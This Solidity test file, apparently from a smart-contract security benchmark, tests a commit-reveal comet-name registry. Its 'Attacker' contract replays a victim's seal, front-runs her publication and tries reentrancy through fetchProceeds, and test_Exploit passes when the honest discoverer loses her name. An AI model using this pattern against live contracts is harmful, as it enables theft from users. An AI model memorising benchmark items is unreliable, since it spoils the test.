// SPDX-License-Identifier: CC0-1.0
pragma solidity 0.8.30;

import "./CometRegister.sol";

// assay-canary-cb193410-3676-4643-b6e3-c9a7bfda720c

interface Vm {
    function deal(address who, uint256 amount) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Has looked at the sky through other people's transactions only.
contract Attacker {
    CometRegister internal register;
    bool internal again;

    constructor(CometRegister register_) {
        register = register_;
    }

    receive() external payable {
        if (!again) return;
        again = false;
        try register.fetchProceeds() {} catch {}
    }

    function sawSeal(bytes32 seal) external {
        register.seal(seal);
    }

    function sawPublish(string calldata name, CometRegister.Place calldata place, bytes32 salt, address discoverer) external {
        try register.publish{value: 0.01 ether}(name, place, salt) {} catch {}
        try register.seal(register.sealOf(discoverer, name, place, salt)) {} catch {}
        try register.publish{value: 0.01 ether}(name, place, salt) {} catch {}
        try register.seal(register.sealOf(address(this), name, place, salt)) {} catch {}
        try register.publish{value: 0.01 ether}(name, place, salt) {} catch {}
        try register.publish(name, place, salt) {} catch {}
        bytes32 id = register.idOf(name);
        try register.take(id) {} catch {}
        try register.take{value: 0.1 ether}(id) {} catch {}
        try register.cede(id, address(this)) {} catch {}
        try register.ask(id, 1) {} catch {}
    }

    function market(bytes32 id) external {
        try register.take{value: 0.2 ether}(id) {} catch {}
        try register.take{value: 0.3 ether}(id) {} catch {}
        try register.ask(id, 0.3 ether) {} catch {}
        try register.take{value: 0.3 ether}(id) {} catch {}
        again = true;
        try register.fetchProceeds() {} catch {}
    }

    function look() external {
        bytes32 alike = register.sealOf(address(this), "2026-Ida", CometRegister.Place(1, 1), 0);
        if (register.sealedIn(address(this), alike) == 0) register.seal(alike);
        try register.publish{value: 0.01 ether}("2026-Ida", CometRegister.Place(1, 1), 0) {} catch {}
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant IDA = address(0x1DA);
    address internal constant TOM = address(0x709);
    address internal constant HILL = address(0x4111);
    bytes32 internal constant SALT = keccak256("an evening in the fog");

    CometRegister internal register;
    Attacker internal shade;
    bytes32 internal seen; // the seal in ida's transaction
    bytes32 internal old;

    function setUp() public {
        vm.roll(1_000);
        register = new CometRegister(HILL);
        shade = new Attacker(register);
        vm.deal(address(shade), 1 ether);
        vm.deal(IDA, 1 ether);
        vm.deal(TOM, 1 ether);
        bytes32 s = register.sealOf(TOM, "2026-old", _place(), SALT);
        vm.prank(TOM);
        register.seal(s);
        vm.roll(1_010);
        vm.prank(TOM);
        old = register.publish{value: 0.01 ether}("2026-old", _place(), SALT);
        vm.prank(TOM);
        register.ask(old, 0.3 ether);

        seen = register.sealOf(IDA, "2026-ida", _place(), SALT);
        vm.prank(IDA);
        register.seal(seen);
    }

    function _place() private pure returns (CometRegister.Place memory) {
        return CometRegister.Place(41_000_000, -3_500_000);
    }

    function _publish(address who, string memory name, bytes32 salt) private returns (bool ok) {
        vm.prank(who);
        (ok, ) = address(register).call{value: 0.01 ether}(abi.encodeCall(register.publish, (name, _place(), salt)));
    }

    function test_Regular() public {
        vm.deal(address(this), 1 ether);
        vm.roll(1_019);
        require(!_publish(IDA, "2026-ida", SALT), "not ripe");
        vm.roll(1_020);
        require(!_publish(TOM, "2026-ida", SALT) && !_publish(IDA, "2026-ida", 0), "not sealed");
        require(_publish(IDA, "2026-ida", SALT), "published");
        bytes32 id = register.idOf("2026-ida");
        CometRegister.Entry memory e = register.entryOf(id);
        require(e.discoverer == IDA && e.holder == IDA && e.place.declination == -3_500_000 && register.count() == 2, "entry");
        require(!_publish(IDA, "2026-ida", SALT), "once");

        vm.prank(IDA);
        (bool ok, ) = address(register).call{value: 0.2 ether}(abi.encodeCall(register.take, (old)));
        require(!ok, "not that price");
        vm.prank(IDA);
        register.take{value: 0.3 ether}(old);
        vm.prank(TOM);
        register.fetchProceeds();
        require(register.entryOf(old).holder == IDA && TOM.balance == 1.29 ether, "sold");
        vm.prank(IDA);
        register.cede(old, HILL);
        vm.prank(HILL);
        register.fetchProceeds();
        require(HILL.balance == 0.02 ether && address(register).balance == 0, "fees");

        bytes32 late = register.sealOf(TOM, "2026-tom", _place(), SALT);
        vm.prank(TOM);
        register.seal(late);
        vm.roll(60_000);
        require(!_publish(TOM, "2026-tom", SALT), "stale");
    }

    /// The honest call: ida publishes what she sealed, ten blocks later or after that.
    function idaPublishes() public {
        if (block.number < 1_025) vm.roll(1_025);
        vm.prank(IDA);
        register.publish{value: 0.01 ether}("2026-ida", _place(), SALT);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The fee is exact, and a name is three to twenty-four small letters, digits and dashes.
    function test_RefusesNames() public {
        vm.roll(1_020);
        refuses(IDA, abi.encodeWithSelector(CometRegister.NotThatPrice.selector, 0.01 ether));
        register.publish{value: 0.02 ether}("2026-ida", _place(), SALT);
        vm.expectRevert(CometRegister.BadName.selector);
        register.idOf("ab");
        vm.expectRevert(CometRegister.BadName.selector);
        register.idOf("abcdefghijklmnopqrstuvwxy");
        vm.expectRevert(CometRegister.BadName.selector);
        register.idOf("a comet");
    }

    /// Only the holder asks a price or cedes, to somebody; proceeds need a taker.
    function test_RefusesStrangers() public {
        refuses(IDA, CometRegister.NotTheHolder.selector);
        register.ask(old, 1);
        refuses(TOM, CometRegister.NotTheHolder.selector);
        register.cede(old, address(0));
        refuses(address(register), CometRegister.NotPaid.selector);
        register.fetchProceeds();
    }

    // The shade sees ida's seal, and fifteen blocks later her publication before it is in a block.
    function exploit() public {
        shade.sawSeal(seen);
        shade.look();
        vm.roll(1_025);
        shade.look();
        shade.market(old);
        shade.sawPublish("2026-ida", _place(), SALT, IDA);
    }

    function test_Exploit() public {
        exploit();
        (bool served, ) = address(this).call(abi.encodeCall(this.idaPublishes, ()));
        require(!served, "ida has her name");
    }

    function target() public view returns (address) {
        return address(register);
    }

    function attacker() public view returns (address) {
        return address(shade);
    }
}
